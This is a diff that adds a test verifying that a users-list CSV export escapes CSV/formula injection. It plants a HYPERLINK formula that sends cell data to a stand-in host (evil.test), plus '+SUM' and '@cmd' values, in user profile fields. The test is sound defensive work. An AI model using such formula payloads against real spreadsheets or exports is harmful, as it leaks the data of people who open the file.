@@ -596,6 +596,29 @@ describe('CSV export of the users list', () => {
     );
   });
 
+  it('writes what a spreadsheet would run as a formula as text (CSV injection)', async () => {
+    const mallory = await apiCreateUser(t.admin, tenant, { email: 'mallory@formula.test', firstName: 'Mal' });
+    const own = await signIn(t.app, 'import-co', 'mallory@formula.test');
+    const named = await own.patch('/api/v1/me/profile', {
+      firstName: '=HYPERLINK("http://evil.test/?"&A1,"x")',
+    });
+    expect(named.statusCode, named.body).toBe(200);
+    await t.admin.patch(`/api/v1/tenants/${tenant}/users/${mallory.id}`, {
+      jobTitle: '+SUM(1,2)',
+      department: '@cmd',
+    });
+    const res = await t.admin.get(
+      `/api/v1/tenants/${tenant}/users/export?q=formula.test&columns=firstName,jobTitle,department,email`,
+    );
+    const line = res.body
+      .replace(/^\uFEFF/, '')
+      .trim()
+      .split('\r\n')[1]!;
+    expect(line).toBe(
+      `"'=HYPERLINK(""http://evil.test/?""&A1,""x"")","'+SUM(1,2)",'@cmd,mallory@formula.test`,
+    );
+  });
+
   it('keeps to the caller’s data scope and refuses unknown columns and callers without imports.run', async () => {
     const role = await t.admin.post(`/api/v1/tenants/${tenant}/roles`, {
       name: 'Sales Lead',
